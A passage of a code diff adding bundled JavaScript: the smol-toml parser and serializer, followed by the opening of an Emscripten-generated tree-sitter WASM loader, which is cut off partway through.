+	}
+	isLocal() {
+		return !this.#hasDate || !this.#hasTime || !this.#offset;
+	}
+	isDate() {
+		return this.#hasDate && !this.#hasTime;
+	}
+	isTime() {
+		return this.#hasTime && !this.#hasDate;
+	}
+	isValid() {
+		return this.#hasDate || this.#hasTime;
+	}
+	toISOString() {
+		let iso = super.toISOString();
+		if (this.isDate()) return iso.slice(0, 10);
+		if (this.isTime()) return iso.slice(11, 23);
+		if (this.#offset === null) return iso.slice(0, -1);
+		if (this.#offset === "Z" || this.#offset === "z") return iso;
+		let offset = +this.#offset.slice(1, 3) * 60 + +this.#offset.slice(4, 6);
+		offset = this.#offset[0] === "-" ? offset : -offset;
+		return (/* @__PURE__ */ new Date(this.getTime() - offset * 6e4)).toISOString().slice(0, -1) + this.#offset;
+	}
+	static wrapAsOffsetDateTime(jsDate, offset = "Z") {
+		let date = new TomlDate(jsDate);
+		date.#offset = offset;
+		return date;
+	}
+	static wrapAsLocalDateTime(jsDate) {
+		let date = new TomlDate(jsDate);
+		date.#offset = null;
+		return date;
+	}
+	static wrapAsLocalDate(jsDate) {
+		let date = new TomlDate(jsDate);
+		date.#hasTime = false;
+		date.#offset = null;
+		return date;
+	}
+	static wrapAsLocalTime(jsDate) {
+		let date = new TomlDate(jsDate);
+		date.#hasDate = false;
+		date.#offset = null;
+		return date;
+	}
+};
+//#endregion
+//#region src/extract.ts
+function isDigit(char, base = 10) {
+	return base === 16 ? char > 47 && char < 58 || char > 64 && char < 71 || char > 96 && char < 103 : char > 47 && char < 48 + base;
+}
+function isEndOfValue(char, delim) {
+	return char === 32 || char === 9 || char === 10 || char === 13 || delim && (char === delim || char === 44) || char === 35;
+}
+/** @internal */
+function extractValue(ctx, end) {
+	let errPtr = ctx.p;
+	let c = ctx.s.charCodeAt(ctx.p);
+	if (c === 91 || c === 123) {
+		ctx.d-- || TomlError.x("document contains excessively nested structures. aborting.", ctx);
+		let value = c === 91 ? parseArray(ctx) : parseInlineTable(ctx);
+		ctx.d++;
+		return value;
+	}
+	if (c === 34 || c === 39) return parseString(ctx);
+	if (c === 116) {
+		if (ctx.s.charCodeAt(++ctx.p) !== 114 || ctx.s.charCodeAt(++ctx.p) !== 117 || ctx.s.charCodeAt(++ctx.p) !== 101) TomlError.x("invalid value", ctx, errPtr);
+		return ctx.p++, true;
+	}
+	if (c === 102) {
+		if (ctx.s.charCodeAt(++ctx.p) !== 97 || ctx.s.charCodeAt(++ctx.p) !== 108 || ctx.s.charCodeAt(++ctx.p) !== 115 || ctx.s.charCodeAt(++ctx.p) !== 101) TomlError.x("invalid value", ctx, errPtr);
+		return ctx.p++, false;
+	}
+	if (c === 43 || c === 45) return parseNumber(ctx, ctx.p, ctx.s.charCodeAt(++ctx.p), 44 - c, end);
+	if (ctx.s.charCodeAt(ctx.p + 4) === 45 && ctx.s.charCodeAt(ctx.p + 7) === 45) return parseDate(ctx, c, end);
+	if (ctx.s.charCodeAt(ctx.p + 2) === 58) return parseTime(ctx, c, end);
+	return parseNumber(ctx, ctx.p, c, 0, end);
+}
+function parseNumber(ctx, startPtr, startChr, sign, endChr) {
+	let c = startChr;
+	let state = 0;
+	let hasUnderscores = false;
+	if (c === 105) {
+		if (ctx.s.charCodeAt(++ctx.p) !== 110 || ctx.s.charCodeAt(++ctx.p) !== 102) TomlError.x("invalid value", ctx, startPtr);
+		return ctx.p++, (sign || 1) / 0;
+	}
+	if (c === 110) {
+		if (ctx.s.charCodeAt(++ctx.p) !== 97 || ctx.s.charCodeAt(++ctx.p) !== 110) TomlError.x("invalid value", ctx, startPtr);
+		return ctx.p++, NaN;
+	}
+	if (c === 48) {
+		if (++ctx.p >= ctx.s.length || isEndOfValue(c = ctx.s.charCodeAt(ctx.p), endChr)) return ctx.bi === true ? 0n : 0;
+		if (!sign) {
+			if (c === 120) return parseIntegerBaseN(ctx, startPtr, 16, endChr);
+			else if (c === 98) return parseIntegerBaseN(ctx, startPtr, 2, endChr);
+			else if (c === 111) return parseIntegerBaseN(ctx, startPtr, 8, endChr);
+		}
+		if (c === 46) state = 2;
+		else if (c === 101 || c === 69) state = 4;
+		else TomlError.x("illegal leading zero", ctx, startPtr);
+	} else if (!isDigit(c)) TomlError.x("invalid value", ctx, startPtr);
+	while (++ctx.p < ctx.s.length && (c = ctx.s.charCodeAt(ctx.p), !isEndOfValue(c, endChr))) {
+		if (!state) state = 1;
+		if (c === 95) {
+			if (!(state & 1)) TomlError.x("illegal underscore", ctx);
+			state += 11;
+			hasUnderscores = true;
+		} else if (state === 1 && c === 46) state = 2;
+		else if ((state === 1 || state === 3) && (c === 101 || c === 69)) state = 4;
+		else if (state === 4 && (c === 43 || c === 45)) state = 6;
+		else if (!isDigit(c)) TomlError.x(`illegal character in numeric literal`, ctx);
+		else if (state > 9) state -= 11;
+		else if (!(state & 1)) state++;
+	}
+	if (!state) {
+		let val = (startChr - 48) * (sign || 1);
+		return ctx.bi === true ? BigInt(val) : val;
+	}
+	if (!(state & 1)) TomlError.x("unfinished numeric value", ctx, startPtr);
+	let str = ctx.s.slice(startPtr, ctx.p);
+	if (hasUnderscores) str = str.replaceAll("_", "");
+	return state > 1 ? parseFloat(str) : parseInteger(ctx, str, 10, startPtr);
+}
+function parseIntegerBaseN(ctx, startPtr, base, endChr) {
+	let c, underscore = 1;
+	while (++ctx.p < ctx.s.length && (c = ctx.s.charCodeAt(ctx.p), !isEndOfValue(c, endChr))) if (c === 95) {
+		if (underscore & 1) TomlError.x("illegal underscore", ctx);
+		underscore = 3;
+	} else if (!isDigit(c, base)) TomlError.x(`illegal character in numeric literal`, ctx);
+	else if (underscore & 1) underscore--;
+	if (underscore & 1) TomlError.x("unfinished numeric value", ctx);
+	let str = ctx.s.slice(startPtr + 2, ctx.p);
+	if (underscore) str = str.replaceAll("_", "");
+	return parseInteger(ctx, str, base, startPtr);
+}
+function parseInteger(ctx, str, base, startPtr) {
+	if (ctx.bi !== true) int: {
+		let val = parseInt(str, base);
+		if (!Number.isSafeInteger(val)) {
+			if (ctx.bi) break int;
+			TomlError.x("integer value cannot be represented losslessly", ctx, startPtr);
+		}
+		return val;
+	}
+	return base === 10 ? BigInt(str) : BigInt((base === 2 ? "0b" : base === 8 ? "0o" : "0x") + str);
+}
+function parseDate(ctx, c, endChr) {
+	let startPtr = ctx.p++, unsafeSeparator;
+	if (!isDigit(c) || !isDigit(ctx.s.charCodeAt(ctx.p++)) || !isDigit(ctx.s.charCodeAt(ctx.p++)) || !isDigit(ctx.s.charCodeAt(ctx.p++))) return parseNumber(ctx, ctx.p = startPtr, c, 0, endChr);
+	ctx.p += 5;
+	if (!isDigit(ctx.s.charCodeAt(ctx.p++))) TomlError.x("invalid date-time: date part is malformed", ctx, startPtr);
+	if (ctx.p >= ctx.s.length || ((c = ctx.s.charCodeAt(ctx.p)) !== 32 || (unsafeSeparator = true, !isDigit(ctx.s.charCodeAt(ctx.p + 1)))) && c !== 84 && c !== 116) return readDate(ctx, ctx.s.slice(startPtr, ctx.p), 3, false, startPtr);
+	if (ctx.s.charCodeAt(ctx.p += 3) !== 58) TomlError.x("invalid date-time: time part is malformed", ctx, startPtr);
+	if (ctx.s.charCodeAt(ctx.p += 3) === 58) ctx.p += 3;
+	if (ctx.s.charCodeAt(ctx.p) === 46) while (isDigit(ctx.s.charCodeAt(++ctx.p)));
+	if (c = ctx.s.charCodeAt(ctx.p)) {
+		if (c === 90 || c === 122) return readDate(ctx, ctx.s.slice(startPtr, ++ctx.p), 1, unsafeSeparator, startPtr, "[+00:00]");
+		if (c === 43 || c === 45) return readDate(ctx, ctx.s.slice(startPtr, ctx.p += 6), 1, unsafeSeparator, startPtr, !ctx.ld && "[" + ctx.s.slice(ctx.p - 6, ctx.p) + "]");
+	}
+	return readDate(ctx, ctx.s.slice(startPtr, ctx.p), 2, unsafeSeparator, startPtr);
+}
+function parseTime(ctx, c, endChr) {
+	let start = ctx.p;
+	if (!isDigit(c) || !isDigit(ctx.s.charCodeAt(++ctx.p))) return parseNumber(ctx, --ctx.p, c, 0, endChr);
+	if (ctx.s.charCodeAt(ctx.p += 4) === 58) ctx.p += 3;
+	if (ctx.s.charCodeAt(ctx.p) === 46) while (isDigit(ctx.s.charCodeAt(++ctx.p)));
+	return readDate(ctx, ctx.s.slice(start, ctx.p), 4, false, start);
+}
+function readDate(ctx, str, type, unsafeDelim, errPtr, temporalSuffix) {
+	if (ctx.ld) {
+		let date = new TomlDate(str, type, unsafeDelim);
+		if (!date.isValid()) TomlError.x("invalid date", ctx, errPtr);
+		return date;
+	}
+	try {
+		if (temporalSuffix) str += temporalSuffix;
+		switch (type) {
+			case 1: return Temporal.ZonedDateTime.from(str);
+			case 2: return Temporal.PlainDateTime.from(str);
+			case 3: return Temporal.PlainDate.from(str);
+			case 4: return Temporal.PlainTime.from(str);
+		}
+	} catch (e) {
+		TomlError.x(e instanceof Error ? e.message : "" + e, ctx, errPtr);
+	}
+}
+//#endregion
+//#region src/util.ts
+/** @internal */
+function skipComment(ctx) {
+	for (; ctx.p < ctx.s.length; ctx.p++) {
+		let c = ctx.s.charCodeAt(ctx.p);
+		if (c === 10) break;
+		if (c === 13 && ctx.s.charCodeAt(ctx.p + 1) === 10) {
+			ctx.p++;
+			break;
+		}
+		if (c < 32 && c !== 9 || c === 127) TomlError.x("control characters are not allowed in comments", ctx);
+	}
+}
+/** @internal */
+function skipVoid(ctx, banNewLines, banComments) {
+	let c;
+	while (ctx.p < ctx.s.length) {
+		while (ctx.p < ctx.s.length && ((c = ctx.s.charCodeAt(ctx.p)) === 32 || c === 9 || !banNewLines && (c === 10 || c === 13 && ctx.s.charCodeAt(ctx.p + 1) === 10))) ctx.p++;
+		if (banComments || c !== 35) break;
+		skipComment(ctx);
+	}
+}
+//#endregion
+//#region src/struct.ts
+/** @internal */
+function parseKey(ctx, end = 61) {
+	let startPtr;
+	let state = 0;
+	let parsed = [];
+	let sliceStart;
+	let c = ctx.s.charCodeAt(startPtr = ctx.p);
+	do
+		if (c === end) {
+			if (!state) TomlError.x("unexpected end of key", ctx);
+			if (state === 1) parsed.push(ctx.s.slice(sliceStart, ctx.p));
+			return ctx.p++, parsed;
+		} else if (c === 46) {
+			if (!state) TomlError.x("illegal empty bare key", ctx);
+			if (state === 1) parsed.push(ctx.s.slice(sliceStart, ctx.p));
+			state = 0;
+		} else if (!state && (c === 34 || c === 39)) {
+			if (c === ctx.s.charCodeAt(ctx.p + 1) && c === ctx.s.charCodeAt(ctx.p + 2)) TomlError.x("illegal quoted key: multiline strings are not allowed", ctx);
+			parsed.push(parseString(ctx));
+			state = 2;
+			ctx.p--;
+		} else if (c === 32 || c === 9) {
+			if (state === 1) {
+				parsed.push(ctx.s.slice(sliceStart, ctx.p));
+				state = 2;
+			}
+		} else if (state === 2 || c < 48 && c !== 45 || c > 57 && c < 65 || c > 90 && c < 97 && c !== 95 || c > 122) TomlError.x("illegal character in key", ctx);
+		else if (!state) {
+			state = 1;
+			sliceStart = ctx.p;
+		}
+	while (c = ctx.s.charCodeAt(++ctx.p));
+	TomlError.x("incomplete key-value: cannot find end of key", ctx, startPtr);
+}
+/** @internal */
+function parseInlineTable(ctx) {
+	let startPtr = ctx.p++;
+	let res = Object.create(null);
+	let seen = /* @__PURE__ */ new Set();
+	let c;
+	while (ctx.p < ctx.s.length) {
+		skipVoid(ctx);
+		if ((c = ctx.s.charCodeAt(ctx.p)) === 125) {
+			ctx.p++;
+			return res;
+		}
+		let k;
+		let t = res;
+		let hasOwn = false;
+		let errPtr = ctx.p;
+		let key = parseKey(ctx);
+		for (let i = 0; i < key.length; i++) {
+			if (i) t = hasOwn ? t[k] : t[k] = Object.create(null);
+			k = key[i];
+			if ((hasOwn = Object.hasOwn(t, k)) && (typeof t[k] !== "object" || seen.has(t[k]))) TomlError.x("trying to redefine an already defined value", ctx, errPtr);
+			let unsafe = k === "__proto__";
+			if (ctx.uk && (unsafe || k === "constructor")) {
+				t = ctx.uk !== 1 && TomlError.x("document contains an unsafe property", ctx, errPtr);
+				break;
+			}
+			if (!hasOwn && unsafe) Object.defineProperty(t, k, {
+				enumerable: true,
+				configurable: true,
+				writable: true
+			});
+		}
+		if (hasOwn) TomlError.x("trying to redefine an already defined value", ctx, errPtr);
+		skipVoid(ctx, true, true);
+		let value = extractValue(ctx, 125);
+		if (t && typeof (t[k] = value) === "object") seen.add(value);
+		skipVoid(ctx);
+		if ((c = ctx.s.charCodeAt(ctx.p++)) === 125) return res;
+		if (c !== 44) TomlError.x("expected comma or end of structure", ctx, ctx.p - 1);
+	}
+	TomlError.x("unfinished table", ctx, startPtr);
+}
+/** @internal */
+function parseArray(ctx) {
+	let startPtr = ctx.p++;
+	let res = [];
+	let c;
+	while (ctx.p < ctx.s.length) {
+		skipVoid(ctx);
+		if ((c = ctx.s.charCodeAt(ctx.p)) === 93) {
+			ctx.p++;
+			return res;
+		}
+		res.push(extractValue(ctx, 93));
+		skipVoid(ctx);
+		if ((c = ctx.s.charCodeAt(ctx.p++)) === 93) return res;
+		if (c !== 44) TomlError.x("expected comma or end of structure", ctx, ctx.p - 1);
+	}
+	TomlError.x("unfinished array", ctx, startPtr);
+}
+//#endregion
+//#region src/parse.ts
+function peekTable(ctx, key, table, meta, type) {
+	let t = table;
+	let m = meta;
+	let k;
+	let hasOwn = false;
+	let state;
+	for (let i = 0; i < key.length; i++) {
+		if (i) {
+			t = hasOwn ? t[k] : t[k] = Object.create(null);
+			m = (state = m[k]).c;
+			if (type === 0 && (state.t === 1 || state.t === 2)) return null;
+			if (state.t === 2) {
+				let l = t.length - 1;
+				t = t[l];
+				m = m[l].c;
+			}
+		}
+		k = key[i];
+		if ((hasOwn = Object.hasOwn(t, k)) && m[k]?.t === 0 && m[k]?.d) return null;
+		if (!hasOwn) {
+			let unsafe = k === "__proto__";
+			if (ctx.uk && (unsafe || k === "constructor")) return false;
+			if (unsafe) {
+				Object.defineProperty(t, k, {
+					enumerable: true,
+					configurable: true,
+					writable: true
+				});
+				Object.defineProperty(m, k, {
+					enumerable: true,
+					configurable: true,
+					writable: true
+				});
+			}
+			m[k] = {
+				t: i < key.length - 1 && type === 2 ? 3 : type,
+				d: false,
+				i: 0,
+				c: Object.create(null)
+			};
+		}
+	}
+	state = m[k];
+	if (state.t !== type && !(type === 1 && state.t === 3)) return null;
+	if (type === 2) {
+		if (!state.d) {
+			state.d = true;
+			t[k] = [];
+		}
+		t[k].push(t = Object.create(null));
+		state.c[state.i++] = state = {
+			t: 1,
+			d: false,
+			i: 0,
+			c: Object.create(null)
+		};
+	}
+	if (state.d) return null;
+	state.d = true;
+	if (type === 1) t = hasOwn ? t[k] : t[k] = Object.create(null);
+	else if (type === 0 && hasOwn) return null;
+	return [
+		k,
+		t,
+		state.c
+	];
+}
+function validateTablePeek(ctx, peek, ptr) {
+	if (peek === null || ctx.uk === 2) TomlError.x(peek === null ? "trying to redefine an already defined table or value" : "document contains an unsafe property", ctx, ptr);
+}
+function parse(toml, options = {}) {
+	let ctx = {
+		s: toml,
+		p: 0,
+		d: options.maxDepth ?? 1e3,
+		bi: options.integersAsBigInt ?? false,
+		ld: options.useLegacyDate ?? true,
+		uk: options.unsafeKeyBehaviour === "throw" ? 2 : options.unsafeKeyBehaviour === "drop" ? 1 : 0
+	};
+	let res = Object.create(null);
+	let meta = Object.create(null);
+	let tmp;
+	let skipping = false;
+	let tbl = res;
+	let m = meta;
+	if (toml.charCodeAt(0) === 65279) ctx.p++;
+	skipVoid(ctx);
+	while (ctx.p < toml.length) {
+		if (toml.charCodeAt(ctx.p) === 91) {
+			let isTableArray = toml.charCodeAt(++ctx.p) === 91;
+			tmp = ctx.p += +isTableArray;
+			skipping = false;
+			let k = parseKey(ctx, 93);
+			if (isTableArray) {
+				if (toml.charCodeAt(ctx.p) !== 93) TomlError.x("expected end of table array declaration", ctx);
+				ctx.p++;
+			}
+			let p = peekTable(ctx, k, res, meta, isTableArray ? 2 : 1);
+			if (!p) {
+				validateTablePeek(ctx, p, tmp);
+				skipping = true;
+			} else {
+				m = p[2];
+				tbl = p[1];
+			}
+		} else {
+			tmp = ctx.p;
+			let p = peekTable(ctx, parseKey(ctx), tbl, m, 0);
+			if (!p && !skipping) validateTablePeek(ctx, p, tmp);
+			skipVoid(ctx, true, true);
+			let v = extractValue(ctx, void 0);
+			if (p && !skipping) p[1][p[0]] = v;
+		}
+		skipVoid(ctx, true);
+		if (ctx.p < toml.length && (tmp = toml.charCodeAt(ctx.p)) !== 10 && (tmp !== 13 || toml.charCodeAt(ctx.p + 1) !== 10)) TomlError.x("each key-value declaration must be followed by an end-of-line", ctx);
+		skipVoid(ctx);
+	}
+	return res;
+}
+//#endregion
+//#region src/stringify.ts
+let BARE_KEY = /^[a-z0-9-_]+$/i;
+let HAS_WELLFORMED = !!"".isWellFormed;
+function extendedTypeOf(obj) {
+	let type = typeof obj;
+	if (type === "object") {
+		if (Array.isArray(obj)) return "array";
+		if (typeof obj.getUTCDate === "function" && obj instanceof Date) return "date";
+		if (globalThis.Temporal) {
+			if (obj.until) {
+				if (obj instanceof Temporal.ZonedDateTime) return "temporal/tz+uc";
+				if (obj instanceof Temporal.PlainDateTime || obj instanceof Temporal.PlainDate) return "temporal/uc";
+				if (obj instanceof Temporal.PlainTime || obj instanceof Temporal.Instant) return "temporal";
+				if (obj instanceof Temporal.PlainYearMonth) return "temporal/x";
+			} else if (obj.toPlainDate && obj instanceof Temporal.PlainMonthDay || obj.negated && obj instanceof Temporal.Duration) return "temporal/x";
+		}
+	}
+	return type;
+}
+function isArrayOfTables(obj) {
+	for (let i = 0; i < obj.length; i++) if (extendedTypeOf(obj[i]) !== "object") return false;
+	return obj.length != 0;
+}
+function formatWellFormedStringUnchecked(s) {
+	return JSON.stringify(s).replaceAll("", "\\u007f");
+}
+function formatString(s) {
+	return formatWellFormedStringUnchecked(HAS_WELLFORMED ? s.toWellFormed() : s);
+}
+function formatKey(s) {
+	if (BARE_KEY.test(s)) return s;
+	if (HAS_WELLFORMED && !s.isWellFormed()) throw new RangeError("key contains illegal lone surrogates");
+	return formatWellFormedStringUnchecked(s);
+}
+function stringifyValue(val, type, depth, numberAsFloat, strictTemporal) {
+	if (depth === 0) throw new Error("Could not stringify the object: maximum object depth exceeded");
+	switch (type) {
+		case "number":
+			if (isNaN(val)) return "nan";
+			if (val === Infinity) return "inf";
+			if (val === -Infinity) return "-inf";
+			if (Number.isInteger(val) && (numberAsFloat || !Number.isSafeInteger(val))) return val.toFixed(1);
+		case "bigint":
+		case "boolean":
+		case "temporal": return val.toString();
+		case "string": return formatString(val);
+		case "date":
+			if (isNaN(val.getTime())) throw new TypeError("cannot serialize invalid date");
+			return val.toISOString();
+		case "object": return stringifyInlineTable(val, depth, numberAsFloat, strictTemporal);
+		case "array": return stringifyArray(val, depth, numberAsFloat, strictTemporal);
+		case "temporal/tz+uc": if (strictTemporal) {
+			let tz = val.timeZoneId;
+			let tzc = tz.charCodeAt(0);
+			if (tzc !== 43 && tzc !== 45 && (tzc !== 85 && tzc !== 71 && tzc !== 90 && tzc !== 69 || tz !== "UTC" && tz !== "UCT" && tz !== "Universal" && tz !== "Zulu" && !tz.startsWith("GMT") && tz !== "Greenwich" && !tz.startsWith("Etc/"))) throw new TypeError("Temporal objects with an IANA timezone are not allowed in Temporal strict mode");
+		}
+		case "temporal/uc":
+			if (strictTemporal && val.calendarId !== "iso8601") throw new TypeError("Temporal objects with a non-default calendar are not allowed in Temporal strict mode");
+			return val.toString({
+				calendarName: "never",
+				timeZoneName: "never"
+			});
+		case "temporal/x": throw new TypeError("Unsupported " + val[Symbol.toStringTag]);
+	}
+}
+function stringifyInlineTable(obj, depth, numberAsFloat, strictTemporal) {
+	let keys = Object.keys(obj);
+	if (keys.length === 0) return "{}";
+	let res = "{ ";
+	for (let i = 0; i < keys.length; i++) {
+		let k = keys[i];
+		if (i) res += ", ";
+		res += formatKey(k) + " = " + stringifyValue(obj[k], extendedTypeOf(obj[k]), depth - 1, numberAsFloat, strictTemporal);
+	}
+	return res + " }";
+}
+function stringifyArray(array, depth, numberAsFloat, strictTemporal) {
+	if (array.length === 0) return "[]";
+	let res = "[ ";
+	for (let i = 0; i < array.length; i++) {
+		if (i) res += ", ";
+		if (array[i] === null || array[i] === void 0) throw new TypeError("arrays cannot contain null or undefined values");
+		res += stringifyValue(array[i], extendedTypeOf(array[i]), depth - 1, numberAsFloat, strictTemporal);
+	}
+	return res + " ]";
+}
+function stringifyArrayTable(array, key, depth, numberAsFloat, strictTemporal) {
+	if (depth === 0) throw new Error("Could not stringify the object: maximum object depth exceeded");
+	let res = "";
+	for (let i = 0; i < array.length; i++) {
+		res += `${res && "\n"}[[${key}]]\n`;
+		res += stringifyTable(0, array[i], key, depth, numberAsFloat, strictTemporal);
+	}
+	return res;
+}
+function stringifyTable(tableKey, obj, prefix, depth, numberAsFloat, strictTemporal) {
+	if (depth === 0) throw new Error("Could not stringify the object: maximum object depth exceeded");
+	let preamble = "";
+	let tables = "";
+	let keys = Object.keys(obj);
+	for (let i = 0; i < keys.length; i++) {
+		let k = keys[i];
+		if (obj[k] !== null && obj[k] !== void 0) {
+			let type = extendedTypeOf(obj[k]);
+			if (type === "symbol" || type === "function") throw new TypeError(`cannot serialize values of type '${type}'`);
+			let key = formatKey(k);
+			if (type === "array" && isArrayOfTables(obj[k])) tables += (tables && "\n") + stringifyArrayTable(obj[k], prefix ? `${prefix}.${key}` : key, depth - 1, numberAsFloat, strictTemporal);
+			else if (type === "object") {
+				let tblKey = prefix ? `${prefix}.${key}` : key;
+				tables += (tables && "\n") + stringifyTable(tblKey, obj[k], tblKey, depth - 1, numberAsFloat, strictTemporal);
+			} else {
+				preamble += key;
+				preamble += " = ";
+				preamble += stringifyValue(obj[k], type, depth, numberAsFloat, strictTemporal);
+				preamble += "\n";
+			}
+		}
+	}
+	if (tableKey && (preamble || !tables)) preamble = preamble ? `[${tableKey}]\n${preamble}` : `[${tableKey}]`;
+	return preamble && tables ? `${preamble}\n${tables}` : preamble || tables;
+}
+function stringify(obj, { maxDepth = 1e3, numbersAsFloat = false, strictTemporal = false } = {}) {
+	if (extendedTypeOf(obj) !== "object") throw new TypeError("stringify can only be called with an object");
+	let str = stringifyTable(0, obj, "", maxDepth, numbersAsFloat, strictTemporal);
+	if (str[str.length - 1] !== "\n") return str + "\n";
+	return str;
+}
+//#endregion
+//#region src/index.ts
+/** @deprecated use `import * as ... from 'smol-toml'` instead */
+var src_default = {
+	parse,
+	stringify,
+	TomlDate,
+	TomlError
+};
+//#endregion
+exports.TomlDate = TomlDate;
+exports.TomlError = TomlError;
+exports["default"] = src_default;
+exports.parse = parse;
+exports.stringify = stringify;
+
+
+/***/ }),
+
+/***/ 778:
+/***/ ((module, __unused_webpack_exports, __nccwpck_require__) => {
+
+
+var __create = Object.create;
+var __defProp = Object.defineProperty;
+var __getOwnPropDesc = Object.getOwnPropertyDescriptor;
+var __getOwnPropNames = Object.getOwnPropertyNames;
+var __getProtoOf = Object.getPrototypeOf;
+var __hasOwnProp = Object.prototype.hasOwnProperty;
+var __name = (target, value) => __defProp(target, "name", { value, configurable: true });
+var __commonJS = (cb, mod) => function __require() {
+  return mod || (0, cb[__getOwnPropNames(cb)[0]])((mod = { exports: {} }).exports, mod), mod.exports;
+};
+var __export = (target, all) => {
+  for (var name2 in all)
+    __defProp(target, name2, { get: all[name2], enumerable: true });
+};
+var __copyProps = (to, from, except, desc) => {
+  if (from && typeof from === "object" || typeof from === "function") {
+    for (let key of __getOwnPropNames(from))
+      if (!__hasOwnProp.call(to, key) && key !== except)
+        __defProp(to, key, { get: () => from[key], enumerable: !(desc = __getOwnPropDesc(from, key)) || desc.enumerable });
+  }
+  return to;
+};
+var __toESM = (mod, isNodeMode, target) => (target = mod != null ? __create(__getProtoOf(mod)) : {}, __copyProps(
+  // If the importer is in node compatibility mode or this is not an ESM
+  // file that has been converted to a CommonJS file using a Babel-
+  // compatible transform (i.e. "__esModule" has not been set), then set
+  // "default" to the CommonJS "module.exports" for node compatibility.
+  isNodeMode || !mod || !mod.__esModule ? __defProp(target, "default", { value: mod, enumerable: true }) : target,
+  mod
+));
+var __toCommonJS = (mod) => __copyProps(__defProp({}, "__esModule", { value: true }), mod);
+
+// lib/tree-sitter.cjs
+var require_tree_sitter = __commonJS({
+  "lib/tree-sitter.cjs"(exports, module) {
+    "use strict";
+    var Module = (() => {
+      var _scriptName = typeof document != "undefined" ? document.currentScript?.src : void 0;
+      if (typeof __filename != "undefined") _scriptName = _scriptName || __filename;
+      return async function(moduleArg = {}) {
+        var moduleRtn;
+        var Module = moduleArg;
+        var readyPromiseResolve, readyPromiseReject;
+        var readyPromise = new Promise((resolve, reject) => {
+          readyPromiseResolve = resolve;
+          readyPromiseReject = reject;
+        });
+        var ENVIRONMENT_IS_WEB = typeof window == "object";
+        var ENVIRONMENT_IS_WORKER = typeof WorkerGlobalScope != "undefined";
+        var ENVIRONMENT_IS_NODE = typeof process == "object" && typeof process.versions == "object" && typeof process.versions.node == "string" && process.type != "renderer";
+        var ENVIRONMENT_IS_SHELL = !ENVIRONMENT_IS_WEB && !ENVIRONMENT_IS_NODE && !ENVIRONMENT_IS_WORKER;
+        if (ENVIRONMENT_IS_NODE) {
+        }
+        Module.currentQueryProgressCallback = null;
+        Module.currentProgressCallback = null;
+        Module.currentLogCallback = null;
+        Module.currentParseCallback = null;
+        var moduleOverrides = Object.assign({}, Module);
+        var arguments_ = [];
+        var thisProgram = "./this.program";
+        var quit_ = /* @__PURE__ */ __name((status, toThrow) => {
+          throw toThrow;
+        }, "quit_");
+        var scriptDirectory = "";
+        function locateFile(path) {
+          if (Module["locateFile"]) {
+            return Module["locateFile"](path, scriptDirectory);
+          }
+          return scriptDirectory + path;
+        }
+        __name(locateFile, "locateFile");
+        var readAsync, readBinary;
+        if (ENVIRONMENT_IS_NODE) {
+          var fs = __nccwpck_require__(896);
+          var nodePath = __nccwpck_require__(928);
+          scriptDirectory = __dirname + "/";
+          readBinary = /* @__PURE__ */ __name((filename) => {
+            filename = isFileURI(filename) ? new URL(filename) : filename;
+            var ret = fs.readFileSync(filename);
+            return ret;
+          }, "readBinary");
+          readAsync = /* @__PURE__ */ __name(async (filename, binary2 = true) => {
+            filename = isFileURI(filename) ? new URL(filename) : filename;
+            var ret = fs.readFileSync(filename, binary2 ? void 0 : "utf8");
+            return ret;
+          }, "readAsync");
+          if (!Module["thisProgram"] && process.argv.length > 1) {
+            thisProgram = process.argv[1].replace(/\\/g, "/");
+          }
+          arguments_ = process.argv.slice(2);
+          quit_ = /* @__PURE__ */ __name((status, toThrow) => {
+            process.exitCode = status;
+            throw toThrow;
+          }, "quit_");
+        } else if (ENVIRONMENT_IS_WEB || ENVIRONMENT_IS_WORKER) {
+          if (ENVIRONMENT_IS_WORKER) {
+            scriptDirectory = self.location.href;
+          } else if (typeof document != "undefined" && document.currentScript) {
+            scriptDirectory = document.currentScript.src;
+          }
+          if (_scriptName) {
+            scriptDirectory = _scriptName;
+          }
+          if (scriptDirectory.startsWith("blob:")) {
+            scriptDirectory = "";
+          } else {
+            scriptDirectory = scriptDirectory.slice(0, scriptDirectory.replace(/[?#].*/, "").lastIndexOf("/") + 1);
+          }
+          {
+            if (ENVIRONMENT_IS_WORKER) {
+              readBinary = /* @__PURE__ */ __name((url) => {
+                var xhr = new XMLHttpRequest();
+                xhr.open("GET", url, false);
+                xhr.responseType = "arraybuffer";
+                xhr.send(null);
+                return new Uint8Array(
+                  /** @type{!ArrayBuffer} */
+                  xhr.response
+                );
+              }, "readBinary");
+            }
+            readAsync = /* @__PURE__ */ __name(async (url) => {
+              if (isFileURI(url)) {
+                return new Promise((resolve, reject) => {
+                  var xhr = new XMLHttpRequest();
+                  xhr.open("GET", url, true);
+                  xhr.responseType = "arraybuffer";
+                  xhr.onload = () => {
+                    if (xhr.status == 200 || xhr.status == 0 && xhr.response) {
+                      resolve(xhr.response);
+                      return;
+                    }
+                    reject(xhr.status);
+                  };
+                  xhr.onerror = reject;
+                  xhr.send(null);
+                });
+              }
+              var response = await fetch(url, {
+                credentials: "same-origin"
+              });
+              if (response.ok) {
+                return response.arrayBuffer();
+              }
+              throw new Error(response.status + " : " + response.url);
+            }, "readAsync");
+          }
+        } else {
+        }
+        var out = Module["print"] || console.log.bind(console);
+        var err = Module["printErr"] || console.error.bind(console);
+        Object.assign(Module, moduleOverrides);
+        moduleOverrides = null;
+        if (Module["arguments"]) arguments_ = Module["arguments"];
+        if (Module["thisProgram"]) thisProgram = Module["thisProgram"];
+        var dynamicLibraries = Module["dynamicLibraries"] || [];
+        var wasmBinary = Module["wasmBinary"];
+        var wasmMemory;
+        var ABORT = false;
+        var EXITSTATUS;
+        function assert(condition, text) {
+          if (!condition) {
+            abort(text);
+          }
+        }
+        __name(assert, "assert");
+        var HEAP, HEAP8, HEAPU8, HEAP16, HEAPU16, HEAP32, HEAPU32, HEAPF32, HEAP64, HEAPU64, HEAPF64;
+        var HEAP_DATA_VIEW;
+        var runtimeInitialized = false;
+        var isFileURI = /* @__PURE__ */ __name((filename) => filename.startsWith("file://"), "isFileURI");
+        function updateMemoryViews() {
+          var b = wasmMemory.buffer;
+          Module["HEAP_DATA_VIEW"] = HEAP_DATA_VIEW = new DataView(b);
+          Module["HEAP8"] = HEAP8 = new Int8Array(b);
+          Module["HEAP16"] = HEAP16 = new Int16Array(b);
+          Module["HEAPU8"] = HEAPU8 = new Uint8Array(b);
+          Module["HEAPU16"] = HEAPU16 = new Uint16Array(b);
+          Module["HEAP32"] = HEAP32 = new Int32Array(b);
+          Module["HEAPU32"] = HEAPU32 = new Uint32Array(b);
